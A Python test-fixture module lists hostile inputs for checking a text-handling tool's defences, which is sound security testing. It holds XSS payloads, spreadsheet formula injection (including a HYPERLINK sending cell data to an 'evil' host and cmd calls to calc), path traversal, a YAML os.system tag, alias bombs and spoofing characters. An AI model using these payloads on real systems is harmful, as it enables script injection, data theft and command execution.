"""Inputs that strangers and slips may bring, for every test that takes in or gives out text.

Each is a mapping from a name, for the test's id, to the input:

    @pytest.mark.parametrize("attack", attacks.HTML.values(), ids=attacks.HTML)

HTML, MARKDOWN, EXPORTS, SIZE and TEXT are text, BYTES is bytes of a seed, YAML is a source, PATHS are names
that should become a path or an id. `HUGE` is a size in bytes; make the input where it is needed.
"""

from collections.abc import Mapping

HTML: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "end of title": "</title><script>alert(1)</script>",
    "end of title, escaped": "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "end of attribute": '"><img src=x onerror=alert(1)>',
    "svg": "<svg onload=alert(1)>",
    "math": "<math><mtext><style><img src=x onerror=alert(1)>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>">',
    "base": "<base href=//evil>",
    "refresh": '<meta http-equiv=refresh content="0;url=//evil">',
    "form": "<form action=//evil>",
    "clobbering": "<a id=__search name=__md_get>",
    "details": "<details open ontoggle=alert(1)>",
}

MARKDOWN: Mapping[str, str] = {
    "link": "[x](javascript:alert(1))",
    "link with reference": "[x](java&#115;cript:alert(1))",
    "attr_list": '![x](x){: onerror="alert(1)" }',
    "html block": '/// html | div[onclick="alert(1)"]',
    "snippet": '--8<-- "/etc/passwd"',
    "markdown in html": '<div markdown="1" onclick=alert(1)>',
    "contents": "[TOC]",
    "abbreviation": '*[the]: "><script>',
    "template": '{{ config }}{% import "os" as o %}',
    "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "placeholder": "klzzwxh:0000",
    "front matter": "---\ntemplate: 404.html\n---",
    "heading": "# [x](javascript:alert(1)) {#__search}",
    "footnote": "[^1]: <script>alert(1)</script>",
    "admonition": '!!! note "<script>alert(1)</script>"',
}

EXPORTS: Mapping[str, str] = {
    "formula": '=HYPERLINK("http://evil?"&A1)',
    "full-width formula": "＝cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "calendar line": "x\r\nATTENDEE:mailto:e@x",
    "end of script": "</script><!--<script>",
    "end of CDATA": "]]><script>alert(1)</script>",
    "line separator": "a\u2028b\u2029c",
}

PATHS: Mapping[str, str] = {
    "parents": "../../etc/passwd",
    "device": "CON",
    "device with suffix": "nul.txt",
    "NFC": "한국",
    "NFD": "\u1112\u1161\u11ab\u1100\u116e\u11a8",
    "only an emoji": "😀",
    "300 characters": "n" * 300,
    "absolute": "/etc/hostname",
    "backslashes": "..\\..\\windows",
    "blank": " ",
    "dots": "..",
    "control": "a\x00b",
}
"""Every one must come to an id of a-z, 0-9 and hyphens, at most 64 bytes."""

TWINS: Mapping[str, tuple[str, str]] = {
    "case": ("Foo", "foo"),
    "NFC and NFD": (PATHS["NFC"], PATHS["NFD"]),
}
"""Names that some file systems hold for one."""

YAML: Mapping[str, tuple[str, str]] = {
    "tag": ("x: !!python/object/apply:os.system [id]", "yaml-tag"),
    "alias bomb": (
        "a: &a [x,x,x,x,x,x,x,x]\n"
        + "\n".join(
            f"{b}: &{b} [{','.join([f'*{a}'] * 8)}]" for a, b in zip("abcdefg", "bcdefgh", strict=True)
        ),
        "yaml-anchor",
    ),
    "self-reference": ("a: &a [*a]", "yaml-anchor"),
    "duplicate key": ("id: one\nid: two", "yaml-duplicate-key"),
    "unclosed list": ("bad: [unclosed", "yaml-syntax"),
    "half a surrogate, escaped": ('x: "\\ud800"', "yaml-syntax"),
    "half a surrogate": ("x: \ud800", "yaml-character"),
    "control character, escaped": ('x: "\\x07"', "yaml-character"),
    "noncharacter, escaped": ('x: "\\uffff"', "yaml-character"),
    "control character": ("x: \x07", "yaml-character"),
    "nested lists": ("[" * 3000, "yaml-too-deep"),
    "nested groups": ("{" * 3000, "yaml-too-deep"),
    "nested entries": ("- " * 3000 + "x", "yaml-too-deep"),
    "merge key": ("a: {b: c}\n<<: {d: e}", "yaml-merge-key"),
    "key that is a list": ("? [a, b]\n: c", "yaml-key-not-text"),
    "second document": ("a: 1\n---\ntemplate: 404.html", "yaml-documents"),
    "directive": ("%YAML 1.2\n---\na: 1", "yaml-directive"),
    "too large": ("x: " + "y" * 1_000_001, "yaml-too-large"),
}
"""Source, and the code of its first diagnostic."""

TEXT: Mapping[str, str] = {
    "right to left": "Open \u202egpj.exe now.",
    "full-width markup": "＜script＞alert(1)＜/script＞",
    "isolates": "\u2066a\u2067b\u2069",
    "zero width": "a\u200bb\ufeffc\u2060d",
}
"""Stays as it is; a page shows what cannot be seen."""

BYTES: Mapping[str, bytes] = {
    "NUL": b"Before\x00after.",
    "C0 and C1": b"One\x07two\x1bthree \xc2\x85 \xc2\x9b four.",
    "noncharacters": "One\ufdd0two\uffffthree\U0001fffe.".encode(),
    "cp949": "한국 정부는 오늘 협상을 끝냈다".encode("cp949"),
    "UTF-16LE without a mark": "Talks ended today.".encode("utf-16-le"),
    "UTF-8 read as Latin-1": "It’s “over”, they said — at last.".encode().decode("cp1252", "ignore").encode(),
    "curly quotes of cp1252": "The minister’s “no” stood.".encode("cp1252"),
    "not text": bytes(range(256)) * 4,
    "truncated UTF-8": "Ceasefire talks in Seoul — 한".encode()[:-1],
    "empty": b"",
    "blank": b" \n\t\n  ",
    "only a mark": b"\xef\xbb\xbf",
}

SIZE: Mapping[str, str] = {
    "brackets": "[" * 20_000,
    "images": "‹![" * 6_666,
    "comments": "‹!--" * 40_000,
    "nested divisions": "<div>" * 100_000,
    "long tag": "<" + "a" * 1_000_000,
    "large table": "<table>" + "<tr><td>x" * 100_000,
    "nested list": "\n".join("  " * depth + "- x" for depth in range(600)),
    "quotation marks": "“" * 20_000,
    "full stops": "A." * 20_000,
    "one long word": "a" * 1_000_000,
    "one long line": "Word after word. " * 50_000,
    "blank lines": "\n" * 1_000_000 + "End.",
}
"""Taken in less time than a reader waits; none may cost more than its length."""

HUGE = 200_000_000
"""Bytes of a seed that must be refused without being read through."""
